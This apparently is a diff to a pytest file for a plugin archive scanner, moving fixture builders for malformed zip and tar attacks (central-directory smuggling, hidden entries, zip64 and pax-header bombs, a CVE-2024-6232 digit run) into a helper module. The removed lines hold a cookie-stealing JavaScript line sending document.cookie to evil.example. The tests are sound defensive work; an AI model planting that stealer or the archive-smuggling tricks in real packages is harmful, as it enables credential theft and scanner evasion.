@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import gzip
 import io
-import json
 import os
 import struct
 import tarfile
@@ -12,7 +11,6 @@ import time
 import tracemalloc
 import warnings
 import zipfile
-import zlib
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
@@ -22,21 +20,29 @@ import pytest
 from scanner.bench import zeros_bomb
 from scanner.config import ArchiveLimits
 from scanner.intake import ArchiveViolation, describe_bundle, unpack, unpack_confined
-from tests.conftest import CLEAN_JS, manifest
 from tests.scanner.archives import (
     DEFLATED,
     DESCRIPTOR,
+    HARMLESS,
+    PLUGIN,
+    STEALER,
     STORED,
-    UTF8,
     Entry,
+    bad_utf8_local_name,
     build_zip,
     deflate,
     descriptor,
     entry,
+    huge_pax_header,
+    local_entry_missing_from_directory,
+    pax_digit_run,
     pax_record,
+    stealer_behind_the_directory,
     tar_gz,
     tar_header,
     tar_member,
+    unknown_version_needed,
+    zip64_million_entries,
 )
 
 LIMITS = ArchiveLimits()
@@ -267,105 +273,43 @@ def test_large_bomb_is_refused_in_bounded_memory(tmp_path: Path, dest: Path) -> 
 # ---------------------------------------------------------------- one archive, one meaning
 # Issue 11: each of these got a cookie stealer to `pass`, crashed intake, or kept it busy.
 
-HARMLESS = CLEAN_JS.encode()
-STEALER = b";fetch('https://evil.example/c?'+document.cookie);"
-PLUGIN = json.dumps(manifest()).encode()
-
-
-def _stealer_behind_the_directory(method: int) -> bytes:
-    """bundle.js holds the stealer after the harmless code; the central directory
-    describes only the harmless start, the local header the whole of it."""
-    js = entry("dist/bundle.js", HARMLESS + STEALER, method)
-    js.central = {"usize": len(HARMLESS), "crc": zlib.crc32(HARMLESS)}
-    if method == STORED:
-        js.central["csize"] = len(HARMLESS)
-    return build_zip([entry("plugin.json", PLUGIN), js])
-
-
-def _local_entry_missing_from_directory() -> bytes:
-    hidden = entry("dist/hidden.js", STEALER, listed=False)
-    return build_zip([entry("plugin.json", PLUGIN), hidden, entry("dist/bundle.js", HARMLESS)])
-
-
-def _bad_utf8_local_name() -> bytes:
-    js = entry("dist/bundle.js", HARMLESS, flags=UTF8)
-    js.local = {"name": b"dist/\xff\xfendle.js"}
-    return build_zip([entry("plugin.json", PLUGIN), js])
-
-
-def _unknown_version_needed() -> bytes:
-    return build_zip([entry("plugin.json", PLUGIN, version=99), entry("dist/bundle.js", HARMLESS)])
-
-
-def _zip64_million_entries() -> bytes:
-    """One real member and a central directory of 1,000,000 entries behind zip64 end
-    records, so the plain end record's 0xFFFF count says nothing."""
-    one = entry("a", b"")
-    local = build_zip([one])
-    cd_offset = local.index(b"PK\x01\x02")
-    central = local[cd_offset : local.index(b"PK\x05\x06")]
-    count = 1_000_000
-    cd = central * count
-    end64_pos = cd_offset + len(cd)
-    end64 = struct.pack(
-        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(cd), cd_offset
-    )
-    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end64_pos, 1)
-    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
-    return local[:cd_offset] + cd + end64 + locator + end
-
-
-def _pax_digit_run(digits: int) -> bytes:
-    # CVE-2024-6232: tarfile's pax regexes backtrack over long digit runs.
-    pax = b"1" * digits + b" path=dist/bundle.js\n"
-    return tar_gz(tar_member(b"././@PaxHeader", pax, b"x"), tar_member(b"dist/bundle.js", HARMLESS))
-
-
-def _huge_pax_header() -> bytes:
-    """A 100 MB pax header that gzip squeezes into about 100 KB."""
-    size = 100 * 1024 * 1024
-    blocks = [tar_header(b"././@PaxHeader", size, b"x")]
-    stream = gzip.compress(blocks[0] + bytes(size) + bytes(1024), compresslevel=9, mtime=0)
-    return stream
-
-
 ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
     "stored-stealer-behind-directory": (
-        lambda: _stealer_behind_the_directory(STORED),
+        lambda: stealer_behind_the_directory(STORED),
         "archive-malformed",
     ),
     "deflated-stealer-behind-directory": (
-        lambda: _stealer_behind_the_directory(DEFLATED),
+        lambda: stealer_behind_the_directory(DEFLATED),
         "archive-malformed",
     ),
     "local-entry-missing-from-directory": (
-        _local_entry_missing_from_directory,
+        local_entry_missing_from_directory,
         "archive-malformed",
     ),
-    "bad-utf8-local-name": (_bad_utf8_local_name, "archive-malformed"),
-    "unknown-version-needed": (_unknown_version_needed, "archive-unsupported"),
-    "zip64-million-entries": (_zip64_million_entries, "archive-too-many-files"),
-    "pax-80k-digit-run": (lambda: _pax_digit_run(80_000), "archive-malformed"),
-    "pax-60k-digit-run-under-the-cap": (lambda: _pax_digit_run(60_000), "archive-malformed"),
-    "pax-header-100mb": (_huge_pax_header, "archive-malformed"),
+    "bad-utf8-local-name": (bad_utf8_local_name, "archive-malformed"),
+    "unknown-version-needed": (unknown_version_needed, "archive-unsupported"),
+    "zip64-million-entries": (zip64_million_entries, "archive-too-many-files"),
+    "pax-80k-digit-run": (lambda: pax_digit_run(80_000), "archive-malformed"),
+    "pax-60k-digit-run-under-the-cap": (lambda: pax_digit_run(60_000), "archive-malformed"),
+    "pax-header-100mb": (huge_pax_header, "archive-malformed"),
 }
 
 
 def test_the_attacks_fooled_or_crashed_the_standard_library(tmp_path: Path) -> None:
     """Why each attack matters: what zipfile and tarfile make of them."""
-    with zipfile.ZipFile(io.BytesIO(_stealer_behind_the_directory(STORED))) as zf:
+    with zipfile.ZipFile(io.BytesIO(stealer_behind_the_directory(STORED))) as zf:
         assert zf.read("dist/bundle.js") == HARMLESS  # the stealer is invisible to zipfile
-    with zipfile.ZipFile(io.BytesIO(_stealer_behind_the_directory(DEFLATED))) as zf:
+    with zipfile.ZipFile(io.BytesIO(stealer_behind_the_directory(DEFLATED))) as zf:
         assert zf.read("dist/bundle.js") == HARMLESS
-    with zipfile.ZipFile(io.BytesIO(_local_entry_missing_from_directory())) as zf:
+    with zipfile.ZipFile(io.BytesIO(local_entry_missing_from_directory())) as zf:
         assert "dist/hidden.js" not in zf.namelist()
     with (
-        zipfile.ZipFile(io.BytesIO(_bad_utf8_local_name())) as zf,
+        zipfile.ZipFile(io.BytesIO(bad_utf8_local_name())) as zf,
         pytest.raises(UnicodeDecodeError),
     ):
         zf.read("dist/bundle.js")
     with pytest.raises(NotImplementedError):
-        zipfile.ZipFile(io.BytesIO(_unknown_version_needed())).read("plugin.json")
+        zipfile.ZipFile(io.BytesIO(unknown_version_needed())).read("plugin.json")
 
 
 @pytest.mark.parametrize("attack", sorted(ATTACKS))
